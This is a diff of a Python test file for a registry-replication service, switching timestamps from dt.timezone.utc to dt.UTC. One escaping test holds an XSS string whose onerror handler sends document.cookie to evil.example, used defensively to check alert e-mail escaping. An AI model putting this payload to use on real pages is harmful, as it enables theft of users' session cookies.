@@ -132,7 +132,7 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
         assert time.monotonic() < deadline
         time.sleep(0.1)
     store.queue.add([Event("bad-name", "push", "Group/BAD", "v1", None, None,
-                     dt.datetime.now(dt.timezone.utc))])
+                     dt.datetime.now(dt.UTC))])
     with store.engine.begin() as conn:
         conn.execute(events.update().where(events.c.id == "bad-name").values(
             status=EventStatus.REJECTED, last_error="repository name out of grammar"))
@@ -239,7 +239,7 @@ def test_a_report_prunes_the_store_history_and_the_counters_hold(
     """The reconcile's report applies history_retention_days next to the run folders'."""
     monkeypatch.setenv("REGISTRY_REPLICATION_METRICS_TOKEN", METRICS_TOKEN)
     monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__HISTORY_RETENTION_DAYS", "30")
-    long_ago = dt.datetime.now(dt.timezone.utc) - dt.timedelta(days=40)
+    long_ago = dt.datetime.now(dt.UTC) - dt.timedelta(days=40)
     store.history.record_run("registry_reconcile", "old", "success", {"bytes copied": 12345})
     store.history.record_copied_bytes("registry_reconcile", "old", "copy_blobs", 0, 12345)
     store.queue.add([Event("old-event", "push", "group/app", "v0", None, None, long_ago)])
@@ -278,7 +278,7 @@ def test_a_history_retention_below_a_day_is_logged_and_prunes_nothing(store, mon
     store.history.record_copied_bytes("registry_reconcile", "old", "copy_blobs", 0, 12345)
     with store.engine.begin() as conn:
         conn.execute(copied_bytes.update().values(
-            recorded_at=dt.datetime.now(dt.timezone.utc) - dt.timedelta(days=40)))
+            recorded_at=dt.datetime.now(dt.UTC) - dt.timedelta(days=40)))
     monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__HISTORY_RETENTION_DAYS", "0.5")
     assert _prune_history() == "nothing (history_retention_days refused)"
     assert "history retention of 0.5 days is below the minimum of 1 day" in caplog.text
@@ -373,7 +373,7 @@ def test_the_alert_e_mail_example_escapes_what_registries_wrote(store, monkeypat
     hostile = ("<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"> & "
                "</pre><script>alert(1)</script>")
     store.queue.add([Event("e1", "push", "group/app", "v1", None, None,
-                           dt.datetime.now(dt.timezone.utc))])
+                           dt.datetime.now(dt.UTC))])
     owner, _ = store.queue.claim()
     store.queue.retry_later(owner, ["e1"], f"get manifest: HTTP 400 MANIFEST_INVALID: {hostile}",
                             max_attempts=1)
